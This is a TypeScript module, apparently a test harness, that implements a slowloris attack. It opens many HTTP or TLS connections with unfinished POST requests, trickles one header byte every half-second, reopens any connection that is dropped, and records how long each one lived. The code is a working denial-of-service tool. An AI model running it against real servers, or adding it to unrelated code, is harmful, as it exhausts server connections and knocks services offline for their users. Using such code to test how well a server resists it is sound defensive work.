import { connect, type Socket } from 'node:net';
import { connect as connectSecurely } from 'node:tls';

/** How long each connection that never finishes its request lived, in ms. */
export type Lives = readonly number[];

/** Until another one is opened in the place of one that was cut off, or could not be opened. */
const JOIN_AFTER_MS = 100;

/** A byte of a header as often, so that no connection is idle. */
const BYTE_EVERY_MS = 500;

/** Holds so many connections, each of which sends a request that never ends; opens another where one is cut off. */
export class SlowLoris {
  private readonly lives: number[] = [];
  /** Those that are connected, and since when. */
  private readonly open = new Map<Socket, number>();
  private readonly sockets = new Set<Socket>();
  private readonly beat: NodeJS.Timeout;
  private over = false;

  constructor(
    private readonly url: URL,
    count: number,
  ) {
    for (let number = 0; number < count; number += 1) this.join();
    this.beat = setInterval(() => {
      for (const socket of this.open.keys()) socket.write('x');
    }, BYTE_EVERY_MS);
  }

  /** Ends them and tells how long each had lived, those that were still open too. */
  stop(): Lives {
    this.over = true;
    clearInterval(this.beat);
    for (const born of this.open.values()) this.lives.push(performance.now() - born);
    for (const socket of this.sockets) socket.destroy();
    return this.lives;
  }

  private join(): void {
    const socket = this.dial();
    const event = this.isSecure ? 'secureConnect' : 'connect';
    // one that could not be opened tells nothing of how long one may live
    socket.once(event, () => {
      if (this.over) return;
      socket.write('POST /v1 HTTP/1.1\r\nhost: propalpes\r\nx-slow: ');
      this.open.set(socket, performance.now());
    });
    this.sockets.add(socket);
    // what it is answered is of no interest, but must be read for the end to be seen
    socket.resume();
    socket.on('error', () => socket.destroy());
    socket.on('close', () => {
      this.leave(socket);
    });
  }

  private leave(socket: Socket): void {
    const born = this.open.get(socket);
    this.open.delete(socket);
    this.sockets.delete(socket);
    if (this.over) return;
    if (born !== undefined) this.lives.push(performance.now() - born);
    setTimeout(() => {
      if (!this.over) this.join();
    }, JOIN_AFTER_MS);
  }

  private dial(): Socket {
    const { hostname: host, port } = this.url;
    return this.isSecure
      ? connectSecurely({ host, port: Number(port || 443), servername: host })
      : connect({ host, port: Number(port || 80) });
  }

  private get isSecure(): boolean {
    return this.url.protocol === 'https:';
  }
}
